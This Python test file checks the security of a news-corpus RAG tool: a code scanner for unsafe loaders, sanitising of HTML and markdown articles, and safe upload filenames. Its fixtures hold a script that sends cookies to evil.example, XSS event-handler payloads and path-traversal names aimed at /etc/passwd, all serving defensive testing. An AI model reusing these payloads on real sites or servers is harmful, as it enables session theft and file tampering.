"""Nothing on a load path can run code, hostile articles stay data, uploads cannot escape the corpus folder.

- An AST scan of `rag/` and `app.py` for the ways Python runs code hidden in data: pickle-family imports,
  `eval`/`exec`, `torch.load` without `weights_only=True`, `numpy.load(allow_pickle=True)`, unsafe YAML
  loaders, `trust_remote_code=True`, and shell commands. The scanner is tested on a sample of each.
- HTML articles with `<script>`, event handlers, `javascript:` links and iframes come out as plain text.
- Upload names with path traversal, absolute paths, NUL bytes, Windows separators, hidden names and very
  long names are reduced to a safe base name inside `corpus/uploads/`; extension and size are checked.
"""

from __future__ import annotations

import ast
import os
from pathlib import Path

import pytest

from rag.ingest import read_corpus
from rag.ingest.html import parse as parse_html
from rag.ingest.text import parse as parse_text

from .helpers import ROOT

# -- code scan -----------------------------------------------------------------------------------------

#: Modules whose loading functions run code embedded in the data they read.
CODE_LOADING_MODULES = {"pickle", "cPickle", "_pickle", "marshal", "shelve", "dill", "cloudpickle", "joblib"}
CODE_RUNNING_BUILTINS = {"eval", "exec", "__import__"}
SHELL_FUNCTIONS = {"system", "popen", "popen2", "popen3", "spawnl", "spawnlp", "spawnv", "spawnvp"}


def _call_name(node: ast.Call) -> str:
    """Dotted name of what is called (`torch.load`, `yaml.load`, `eval`), or "" when it is not a plain name."""
    parts: list[str] = []
    func = node.func
    while isinstance(func, ast.Attribute):
        parts.append(func.attr)
        func = func.value
    if isinstance(func, ast.Name):
        parts.append(func.id)
        return ".".join(reversed(parts))
    return ""


def _kw(node: ast.Call, name: str) -> ast.expr | None:
    return next((k.value for k in node.keywords if k.arg == name), None)


def _is_true(value: ast.expr | None) -> bool:
    return isinstance(value, ast.Constant) and value.value is True


def scan_source(source: str, filename: str = "<source>") -> list[str]:
    """Findings (`file:line: what`) for every construct that could run code hidden in data."""
    findings: list[str] = []

    def found(node: ast.AST, what: str) -> None:
        findings.append(f"{filename}:{getattr(node, 'lineno', 0)}: {what}")

    for node in ast.walk(ast.parse(source, filename)):
        if isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name.split(".")[0] in CODE_LOADING_MODULES:
                    found(node, f"imports {alias.name}")
        elif isinstance(node, ast.ImportFrom):
            if (node.module or "").split(".")[0] in CODE_LOADING_MODULES:
                found(node, f"imports from {node.module}")
            for alias in node.names:
                if alias.name in {"load", "unsafe_load", "full_load"} and node.module == "yaml":
                    found(node, f"imports yaml.{alias.name}")
        elif isinstance(node, ast.Call):
            name = _call_name(node)
            last = name.rsplit(".", 1)[-1]
            if name in CODE_RUNNING_BUILTINS or name in {"builtins.eval", "builtins.exec"}:
                found(node, f"calls {name}()")
            elif name.endswith("torch.load") and not _is_true(_kw(node, "weights_only")):
                found(node, "torch.load without weights_only=True")
            elif last == "load" and name.split(".")[0] in {"np", "numpy"} and _is_true(_kw(node, "allow_pickle")):
                found(node, "numpy.load with allow_pickle=True")
            elif name.startswith("yaml.") and last in {"unsafe_load", "full_load", "unsafe_load_all", "full_load_all"}:
                found(node, f"{name}()")
            elif name.startswith("yaml.") and last in {"load", "load_all"}:
                loader = _kw(node, "Loader") or (node.args[1] if len(node.args) > 1 else None)
                loader_name = ast.unparse(loader) if loader is not None else ""
                if "SafeLoader" not in loader_name and "CSafeLoader" not in loader_name:
                    found(node, f"{name}() without SafeLoader")
            elif last in {"read_pickle", "to_pickle"}:
                found(node, f"{name}()")
            elif name.startswith("os.") and last in SHELL_FUNCTIONS:
                found(node, f"{name}() runs a shell command")
            elif name.startswith("subprocess.") and _is_true(_kw(node, "shell")):
                found(node, f"{name}(shell=True)")
            if _is_true(_kw(node, "trust_remote_code")):
                found(node, f"{name or 'a call'}(trust_remote_code=True) runs code shipped with a model")
    return findings


def _project_sources() -> list[Path]:
    return sorted((ROOT / "rag").rglob("*.py")) + [ROOT / "app.py"]


def test_no_code_execution_on_any_load_path() -> None:
    sources = _project_sources()
    assert len(sources) > 10 and (ROOT / "rag" / "store.py") in sources
    findings = [f for path in sources for f in scan_source(path.read_text(encoding="utf-8"), str(path))]
    assert findings == []


@pytest.mark.parametrize(
    "snippet",
    [
        "import pickle",
        "import marshal",
        "from shelve import open",
        "import joblib",
        "from dill import loads",
        "eval(text)",
        "exec(code)",
        "__import__(name)",
        "torch.load(path)",
        "torch.load(path, weights_only=False)",
        "np.load(path, allow_pickle=True)",
        "numpy.load(path, allow_pickle=True)",
        "yaml.load(text)",
        "yaml.load(text, Loader=yaml.Loader)",
        "yaml.unsafe_load(text)",
        "yaml.full_load(text)",
        "from yaml import load",
        "pd.read_pickle(path)",
        "os.system(cmd)",
        "os.popen(cmd)",
        "subprocess.run(cmd, shell=True)",
        "subprocess.Popen(cmd, shell=True)",
        "SentenceTransformer(path, trust_remote_code=True)",
    ],
)
def test_scanner_catches(snippet: str) -> None:
    assert scan_source(snippet), snippet


@pytest.mark.parametrize(
    "snippet",
    [
        "torch.load(path, weights_only=True)",
        "np.load(path)",
        "yaml.safe_load(text)",
        "yaml.load(text, Loader=yaml.SafeLoader)",
        "subprocess.run(['rag', 'index'])",
        "json.loads(text)",
        "model.eval()",
    ],
)
def test_scanner_allows_safe_forms(snippet: str) -> None:
    assert scan_source(snippet) == []


# -- hostile articles ----------------------------------------------------------------------------------

HOSTILE_HTML = """<!doctype html>
<html><head>
<title>Council approves the new ferry timetable</title>
<meta property="og:site_name" content="Harbour Weekly">
<meta name="date" content="2024-04-02">
<script>window.location = "https://evil.example/steal?c=" + document.cookie; alert("pwned-script")</script>
<style>body { background: url("javascript:alert('pwned-style')") }</style>
</head><body onload="alert('pwned-onload')">
<article>
<h1>Council approves the new ferry timetable</h1>
<p>The harbour council voted on Tuesday to add two evening ferry crossings to the winter timetable, after
months of complaints from commuters who work late shifts in the port.</p>
<p>Councillors said demand had risen sharply since the bridge closed for repairs in the spring, and that
the extra crossings would run until the bridge reopens next year.<img src="x" onerror="alert('pwned-img')"></p>
<script type="text/javascript">document.write("<b>pwned-inline</b>")</script>
<p>The <a href="javascript:alert('pwned-link')">full timetable</a> is posted at the ferry terminal, and the
council said tickets would cost the same as on daytime crossings.<iframe src="https://evil.example/frame"></iframe></p>
<p>Commuter groups welcomed the decision but said they would keep pressing for a night service on weekends.</p>
</article>
</body></html>
"""


def test_html_article_with_scripts_becomes_plain_text() -> None:
    result = parse_html(HOSTILE_HTML, "ferry.html")
    assert len(result.articles) == 1, result.problems
    art = result.articles[0]
    assert "evening ferry crossings" in art.body and "night service on weekends" in art.body
    assert "full timetable" in art.body  # a link's words are kept, its target is not
    for text in (art.body, art.title, art.outlet):
        assert "pwned" not in text and "javascript:" not in text and "evil.example" not in text
        assert "<" not in text and ">" not in text  # no markup at all survives, only text


def test_markdown_tricks_become_plain_text(tmp_path: Path) -> None:
    md = (
        "---\noutlet: Harbour Weekly\ntitle: Ferry timetable\npublished: 2024-04-02\n---\n\n"
        "The council added two [evening crossings](javascript:alert('pwned-md')) to the timetable this week.\n"
        "![tracking pixel](https://evil.example/pixel.png) Tickets cost the same as on daytime crossings.\n"
    )
    art = parse_text(md, "ferry.md").articles[0]
    assert "evening crossings" in art.body and "javascript:" not in art.body and "evil.example" not in art.body


def test_script_text_in_a_plain_article_stays_literal_data(tmp_path: Path) -> None:
    """A `.txt` article that *talks about* markup keeps it as characters; nothing is stripped or interpreted.

    Showing such text safely is the chat's job (it renders article text as text, tested in the browser)."""
    body = 'The attackers posted <script>alert("x")</script> and <img src=x onerror=alert(1)> on the forum.'
    (tmp_path / "forum.txt").write_text(
        f"---\noutlet: Example\ntitle: Forum defaced\n---\n\n{body}\n", encoding="utf-8"
    )
    result = read_corpus(tmp_path)
    assert result.articles[0].body == body


# -- uploads -------------------------------------------------------------------------------------------

uploads = pytest.importorskip("rag.ui.uploads", reason="the chat's upload module (rag/ui/uploads.py) is not there")

TRAVERSAL_NAMES = [
    "../../etc/passwd.md",
    "../../../../../../etc/cron.d/evil.txt",
    "/etc/passwd.md",
    "/absolute/path/article.txt",
    "..\\..\\windows\\system32\\evil.md",
    "C:\\Users\\victim\\article.md",
    "article.md\x00.exe",
    "evil\x00/../../x.md",
    "./../.hidden.md",
    ".bashrc.md",
    "....//....//etc.md",
    "%2e%2e%2fetc%2fpasswd.md",
    "a" * 5000 + ".md",
    "ünïcødé név.md",
    "CON.txt",
    "..",
    "",
    "uploads/../../x.txt",
]


@pytest.mark.parametrize("name", TRAVERSAL_NAMES, ids=lambda n: repr(n[:40]))
def test_safe_filename_is_a_plain_base_name(name: str) -> None:
    safe = uploads.safe_filename(name)
    assert safe and len(safe.encode()) <= 255
    assert "/" not in safe and "\\" not in safe and "\x00" not in safe
    assert not safe.startswith(".") and safe not in {".", ".."}
    assert all(c.isascii() and (c.isalnum() or c in "._-") for c in safe), safe


ARTICLE = b"---\noutlet: Example\ntitle: A test upload\n---\n\nThe council voted to extend the ferry timetable.\n"


@pytest.mark.parametrize(
    "name", [n for n in TRAVERSAL_NAMES if n.endswith((".md", ".txt"))], ids=lambda n: repr(n[:40])
)
def test_upload_with_a_hostile_name_lands_inside_the_uploads_folder(tmp_path: Path, name: str) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    before = {p for p in tmp_path.rglob("*")}
    outcome = uploads.save_upload(corpus, name, ARTICLE, max_bytes=1 << 20)
    assert outcome.status == "saved", outcome.message
    written = {p for p in tmp_path.rglob("*")} - before
    folder = (corpus / uploads.UPLOAD_DIR).resolve()
    files = [p for p in written if p.is_file()]
    assert len(files) == 1 and files[0].resolve().parent == folder, written
    assert (corpus / outcome.saved_as).resolve() == files[0].resolve()


def test_upload_does_not_follow_a_planted_symlink(tmp_path: Path) -> None:
    corpus, outside = tmp_path / "corpus", tmp_path / "outside.md"
    outside.write_bytes(b"precious")
    (corpus / uploads.UPLOAD_DIR).mkdir(parents=True)
    os.symlink(outside, corpus / uploads.UPLOAD_DIR / "article.md")
    outcome = uploads.save_upload(corpus, "article.md", ARTICLE, max_bytes=1 << 20)
    assert outside.read_bytes() == b"precious"  # never written through the link
    if outcome.status == "saved":
        assert outcome.saved_as != f"{uploads.UPLOAD_DIR}/article.md"
    else:
        assert outcome.status == "rejected"


@pytest.mark.parametrize(
    ("name", "data", "why"),
    [
        ("evil.exe", ARTICLE, "not accepted"),
        ("archive.zip", ARTICLE, "not accepted"),
        ("page.php", ARTICLE, "not accepted"),
        ("noextension", ARTICLE, "not accepted"),
        ("script.md.sh", ARTICLE, "not accepted"),
        ("big.md", ARTICLE + b"x" * (1 << 20), "too large"),
        ("empty.md", b"", "empty"),
    ],
)
def test_upload_extension_and_size_are_checked(tmp_path: Path, name: str, data: bytes, why: str) -> None:
    outcome = uploads.save_upload(tmp_path, name, data, max_bytes=1 << 20)
    assert outcome.status == "rejected" and why in outcome.message
    assert not (tmp_path / uploads.UPLOAD_DIR).exists() or not any((tmp_path / uploads.UPLOAD_DIR).iterdir())
